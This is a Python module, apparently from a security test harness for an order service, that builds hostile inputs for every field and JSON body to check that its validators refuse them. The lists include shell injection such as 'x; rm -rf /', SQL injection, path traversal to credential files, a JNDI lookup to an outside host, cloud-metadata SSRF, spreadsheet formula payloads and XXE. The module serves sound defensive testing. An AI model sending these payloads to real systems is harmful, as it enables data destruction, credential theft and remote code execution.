"""The attacks, written once: what is planted into every field, and what is sent in place of a payload."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from orders.guard import Limits
from orders.guard.addresses import HttpsUrl

from .fields import LISTS, Kind, fields, kinds_at, nullable
from .harness import Attack, Carrier, Event, Function, Model, Place

PAYLOAD = ("payload",)

#: Refused wherever text is taken: name, why, text. So is one that is too long.
NEVER = (
    ("nul", "ends the string for code written in C", "a\x00b"),
    ("escape", "drives the terminal of whoever reads a log", "\x1b[2J\x1b]0;owned\x07"),
    ("c1", "a control sequence in one character", "\x9b31mred"),
    ("backspace", "overwrites what was printed before", "safe\x08\x08\x08\x08evil"),
    ("bidi", "shows another text than it holds", "user\u202etxt.exe"),
    ("isolate", "shows another order than it holds", "\u2066admin\u2069"),
    ("zero-width", "equals another name to the eye only", "ad\u200bmin"),
    ("byte-order-mark", "hides at the start of a text", "\ufeffadmin"),
    ("line-separator", "a line break for JavaScript and for some logs", "one\u2028two"),
    ("surrogate", "half a character: encoding it raises", "\ud800"),
    ("tag-characters", "instructions that only a machine reads", "hi\U000e0069\U000e0067"),
    ("filler", "a letter that shows nothing", "ad\u3164min"),
    ("joiner", "equals another name to the eye only", "ad\u034fmin"),
    ("selectors", "hides bytes, one in each, behind a character", "a\U000e0159\U000e015e"),
    ("noncharacter", "ends or breaks an XML document", "a\uffff"),
    ("marks", "takes the square of its length to sort", "a" + "\u0301\u0316" * 400),
)
#: Text that only free text may hold; in anything else it is an injection.
MEANT = (
    ("shell", "runs a command", "$(touch /tmp/owned)"),
    ("shell-separator", "appends a command", "x; rm -rf /"),
    ("shell-option", "becomes an option", "--output=/etc/passwd"),
    ("sql", "closes the string and adds a condition", "' OR '1'='1' --"),
    ("sql-union", "reads another table", "1 UNION SELECT password FROM users"),
    ("nosql", "an operator as text", '{"$gt": ""}'),
    ("traversal", "leaves the folder", "../../../../etc/passwd"),
    ("traversal-encoded", "leaves the folder once it is decoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("traversal-windows", "leaves the folder elsewhere", "..\\..\\windows\\win.ini"),
    ("absolute-path", "names a file", "/proc/self/environ"),
    ("template", "is evaluated by a template engine", "{{7*7}}"),
    ("expression", "is looked up by a logger", "${jndi:ldap://203.0.113.9/a}"),
    ("formula", "runs in a spreadsheet", '=HYPERLINK("https://203.0.113.9","x")'),
    ("formula-sign", "runs in a spreadsheet, which takes a sign for a formula", "@SUM(1)+cmd|' /C calc'!A0"),
    ("formula-wide", "runs in a spreadsheet once it is normalised", "\uff1dcmd|' /C calc'!A0"),
    ("formula-split", "runs in a spreadsheet that splits at it", "x;\"=cmd|' /C calc'!A0"),
    ("script", "runs in a browser", "<script>alert(1)</script>"),
    ("entity", "reads a file through an XML parser", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    ("metadata-address", "asks for the role's credentials", "http://169.254.169.254/latest/meta-data/"),
    ("address", "asks a host that nobody named", "https://203.0.113.9/"),
    ("address-number", "asks the same host, written as a number", "https://3405803785/"),
    ("address-userinfo", "shows one host and asks another", "https://example.com@203.0.113.9/"),
    ("format", "formats what it should not", "%s%s%n{0.__class__}"),
    ("look-alike", "equals another name to the eye only", "\u0430dmin"),
    ("full-width", "becomes other characters when it is normalised", "\uff1cscript\uff1e"),
)
#: Text with line breaks.
BROKEN = (
    ("crlf", "adds a header", "x\r\nSet-Cookie: session=owned"),
    ("log-forging", "adds a line to the log", 'x\n{"level":"INFO","message":"paid"}'),
    ("trailing-newline", "passes a pattern that ends in $", "abc\n"),
)
#: Values of another type than text, and the types that take them.
VALUES: tuple[tuple[str, str, Any, tuple[Any, ...]], ...] = (
    ("operator", "a query operator in place of a value", {"$ne": None}, (dict,)),
    ("operator-regex", "a query operator in place of a value", {"$regex": ".*"}, (dict,)),
    ("prototype", "a name that means something to the language", {"__class__": {"__init__": {}}}, (dict,)),
    ("list", "a list where one value is meant", ["a", "b"], LISTS),
    ("nested-list", "lists in lists", [[["a"]]], ()),
    ("true", "true is 1 in a comparison", True, (bool,)),
    ("number", "a number that no machine type holds", 10**400, ()),
)
#: Fields that no model declares.
UNKNOWN: tuple[tuple[str, str, str, Any], ...] = (
    ("class", "means something to Python", "__class__", "os.system"),
    ("prototype", "means something to JavaScript", "__proto__", {}),
    ("pickle", "what a deserialiser would run", "py/reduce", ["os.system", "id"]),
    ("privilege", "a field that nobody offered", "is_admin", True),
    ("tenant", "a field that nobody offered", "tenant_id", "other"),
    ("space", "almost the name of a field", "id ", "a"),
    ("case", "almost the name of a field", "ID", "a"),
    ("no-name", "a field without a name", "", "a"),
    ("half-name", "half a character in a name: encoding it raises", "\ud800", "a"),
)


def attacks(function: Function) -> Iterator[Attack]:
    """Every attack on one function."""
    model, sample, carrier = function.model(), function.sample(), function.carrier()
    source = function.handler().source
    while source.within:
        source = source.within
    limits = source.limits
    declared: list[Place] = [(key,) for key in fields(model)]
    for place in dict.fromkeys([*carrier.values(model, sample), *declared]):
        if len(place) > 1 or place in declared:  # Else the sample is refused, and its own test says so.
            yield from _on_field(model, sample, carrier, place, limits)
    for name, why, stages, text in _bodies(carrier.payload(sample), limits):
        if carrier.body(sample, text()) is not None:
            yield Attack(f"body-{name}", why, stages, partial(_sent, carrier, sample, text))
    yield from carrier.own(model, sample)


def _sent(carrier: Carrier, sample: Event, text: Callable[[], str]) -> Event | None:
    return carrier.body(sample, text())


def texts(found: list[Kind], most: int) -> Iterator[tuple[str, str, str]]:
    """Every hostile text that no type in `found` takes on purpose, to `most` characters: name, why, text."""
    free = [kind.free for kind in found if kind.free]
    yield from NEVER
    yield from (text for text in MEANT if all(text[0] in mark.refuses for mark in free))
    yield from () if any(mark.breaks for mark in free) else BROKEN
    for note in (note for kind in found for note in kind.notes if isinstance(note, HttpsUrl)):
        yield from _addresses(min(note.hosts))
    # Valid base64, apart from its length.
    long = max([100_000, *(kind.longest // 4 * 4 + 4 for kind in found)])
    if long <= most:
        yield "long", "fills memory, logs and indexes", "a" * long


def _addresses(named: str) -> Iterator[tuple[str, str, str]]:
    """Addresses that only seem to be on a host which the model names."""
    host = named.removeprefix("*.").partition(":")[0]
    yield "url-scheme", "goes over the wire in clear", f"http://{host}/"
    yield "url-userinfo", "shows one host and asks another", f"https://{host}@203.0.113.9/"
    yield "url-backslash", "parsers disagree about where the host ends", f"https://203.0.113.9\\@{host}/"
    yield "url-above", "another host, which starts alike", f"https://{host}.attacker.example/"
    yield "url-beside", "another host, which ends alike", f"https://attacker-{host}/"
    yield "url-port", "another program on that host", f"https://{host}:1/"
    yield "url-dots", "leaves the folder", f"https://{host}/a/%2e%2E/b"
    yield "url-dots-twice", "leaves the folder where it is decoded twice", f"https://{host}/a/%252e%252e/b"
    yield "url-dots-parameter", "leaves the folder of some servers", f"https://{host}/a/..;x=1/b"
    yield "url-escape", "adds a header where it is decoded", f"https://{host}/?a=%0d%0aSet-Cookie:b"


def _on_field(model: Model, sample: Event, carrier: Carrier, place: Place, limits: Limits) -> Iterator[Attack]:
    found, stages, at = kinds_at(model, place), (carrier.stage(place),), ".".join(map(str, place))
    planted: list[tuple[str, str, Any]] = list(texts(found, limits.bytes // 2))
    for name, why, value, types in VALUES:
        if not any(kind.origin in (*types, Any, object) for kind in found):
            planted.append((name, why, value))
    if not nullable(found):
        planted.append(("null", "nothing where something is needed", None))
    for name, why, value in planted:
        if carrier.put(model, sample, place, value) is not None:
            yield Attack(f"{at}-{name}", why, stages, partial(carrier.put, model, sample, place, value))
    # What may come by another key, too, is not missing without this one.
    keys = [key for key, field in fields(model).items() if field is fields(model).get(str(place[0]))]
    required = len(place) == len(keys) == 1 and fields(model)[keys[0]].is_required()
    if required and carrier.drop(model, sample, place) is not None:
        yield Attack(f"{at}-missing", "half an event", stages, partial(carrier.drop, model, sample, place))


def _bodies(known: Event, limits: Limits) -> tuple[tuple[str, str, tuple[str, ...], Callable[[], str]], ...]:
    """What is sent as JSON: name, why it is hostile, the stages that may refuse it, and the text, made when needed."""
    key = json.dumps(next(iter(known), "a"))
    #: Long enough to notice who reads it in the square of its length, and more commas than there may be values.
    long, commas, either = min(30_000, limits.bytes // 3), "," * (limits.nodes + 1), ("payload", "size")
    many = {f"k{number}": 1 for number in range(999)}
    #: Where no payload is expected, any is refused as that.
    size = ("size",) if known else ("size", "payload")
    rows: tuple[tuple[str, str, tuple[str, ...], Callable[[], str]], ...] = (
        ("not-json", "no JSON at all", PAYLOAD, lambda: "id=1&name=x"),
        ("cut", "JSON that ends too early", PAYLOAD, lambda: '{"id": "a"'),
        ("trailing", "a second value after the first", PAYLOAD, lambda: json.dumps(known) + " {}"),
        ("comment", "what some parsers accept", PAYLOAD, lambda: json.dumps(known) + " // and more"),
        ("single-quotes", "what some parsers accept", PAYLOAD, lambda: "{'id': 'a'}"),
        ("byte-order-mark", "what some parsers skip", PAYLOAD, lambda: "\ufeff" + json.dumps(known)),
        ("null", "nothing", PAYLOAD, lambda: "null"),
        ("array", "a list of payloads", PAYLOAD, lambda: json.dumps([known])),
        ("text", "a text", PAYLOAD, lambda: json.dumps(json.dumps(known))),
        ("number", "a number", PAYLOAD, lambda: "1"),
        ("nan", "a number that equals nothing", PAYLOAD, lambda: f"{{{key}: NaN}}"),
        ("infinity", "a number without end", PAYLOAD, lambda: f"{{{key}: -Infinity}}"),
        ("overflow", "a number that becomes infinite", size, lambda: f"{{{key}: 1e999}}"),
        ("digits", "a number that takes minutes to convert", PAYLOAD, lambda: f"{{{key}: {'9' * 50_000}}}"),
        ("twice", "the same key twice: parsers disagree", PAYLOAD, lambda: _twice(known, key)),
        ("twice-inside", "the same key twice, further in", PAYLOAD, lambda: f'{{{key}: {{"b": 1, "b": 2}}}}'),
        ("twice-escaped", "the same key twice, spelled differently", PAYLOAD, lambda: _twice(known, _escaped(key))),
        ("deep", "exhausts the stack", size, lambda: '{"a":' * 100_000 + "1" + "}" * 100_000),
        ("deep-lists", "exhausts the stack", size, lambda: "[" * 5_000 + "]" * 5_000),
        ("nested", "deeper than anybody meant", size, lambda: _nested(key, limits.depth)),
        ("wide", "exhausts memory", size, lambda: f"{{{key}: [" + "[]," * 200_000 + "[]]}"),
        ("keys", "exhausts memory", size, lambda: json.dumps({f"k{number}": 1 for number in range(limits.nodes + 1)})),
        ("unknown-many", "fills the log", PAYLOAD, lambda: json.dumps({**known, **many})),
        ("large", "more than the limit", size, lambda: json.dumps({"a": "x" * limits.bytes})),
        ("blank", "more than the limit, and empty", size, lambda: "{" + " " * limits.bytes + "}"),
        ("long-key", "a key that fills the log", PAYLOAD, lambda: json.dumps({**known, "k" * 100_000: 1})),
        ("quotes", "strings without end, for a scan that starts again", either, lambda: '"' * long + commas),
        ("escapes", "a string without end, for a scan that starts again", either, lambda: '"' + '\\"' * long + commas),
        ("backslashes", "escapes without end", either, lambda: '"' + "\\" * long + commas),
        ("blanks", "nothing, for a scan that looks for its end", either, lambda: '{"a"' + " " * long + commas),
        ("fraction", "a number that takes long to convert", either, lambda: f"{{{key}: 0.{'9' * long}"),
        ("control", "a raw control character", PAYLOAD, lambda: f'{{{key}: "\x01"}}'),
        ("surrogate", "half a character", PAYLOAD, lambda: f'{{{key}: "\\ud800"}}'),
        ("bad-escape", "an escape that JSON does not know", PAYLOAD, lambda: f'{{{key}: "\\x41"}}'),
    )
    return rows + tuple(
        (name, why, PAYLOAD, partial(json.dumps, {**known, extra: value})) for name, why, extra, value in UNKNOWN
    )


def _twice(known: Event, key: str) -> str:
    """The payload with its first key a second time: the last one is good, for those who look at that alone."""
    return f"{{{key}: 0, " + json.dumps(known or {"a": 1})[1:]


def _nested(key: str, depth: int) -> str:
    return f"{{{key}: " + "[" * depth + "]" * depth + "}"


def _escaped(key: str) -> str:
    return f'"\\u{ord(key[1]):04x}{key[2:]}'
